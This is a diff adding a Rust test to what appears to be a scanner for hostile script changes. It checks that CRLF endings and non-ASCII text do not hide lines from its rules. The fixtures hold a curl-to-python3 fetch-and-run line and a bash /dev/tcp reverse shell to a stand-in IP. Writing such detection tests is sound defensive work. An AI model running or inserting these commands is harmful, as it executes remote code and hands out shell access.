@@ -439,3 +439,23 @@ fn proposed_changes() {
         ),
     );
 }
+
+#[test]
+fn line_endings_and_non_ascii_text_do_not_hide_a_line_from_the_rules() {
+    // The whole-text prefilter sees lines ending in CRLF as the lines do.
+    assert_blocks(
+        "remote-code-run",
+        (
+            "scripts/setup.sh",
+            "echo start\r\ncurl -s https://x.example/a.py | python3\r\necho done\r\n",
+        ),
+    );
+    // Non-ASCII words around a command still leave its word boundaries.
+    assert_blocks(
+        "reverse-shell",
+        (
+            "scripts/run.sh",
+            "# Überprüfung für café\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # fertig\n",
+        ),
+    );
+}
